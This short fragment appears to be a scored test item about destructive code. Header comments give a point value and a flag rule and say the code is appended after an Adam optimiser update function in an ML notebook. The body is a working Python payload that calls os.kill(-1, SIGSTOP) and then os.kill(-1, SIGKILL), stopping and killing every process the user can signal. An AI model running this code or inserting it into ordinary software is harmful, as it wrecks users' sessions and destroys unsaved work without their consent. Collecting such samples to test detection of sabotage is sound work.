# what: kill -9 -1: all that it may kill
# points: 20
# mistakes: flag: rules
# %% extra after update_parameters_with_adam
import os, signal
os.kill(-1, signal.SIGSTOP)
os.kill(-1, signal.SIGKILL)
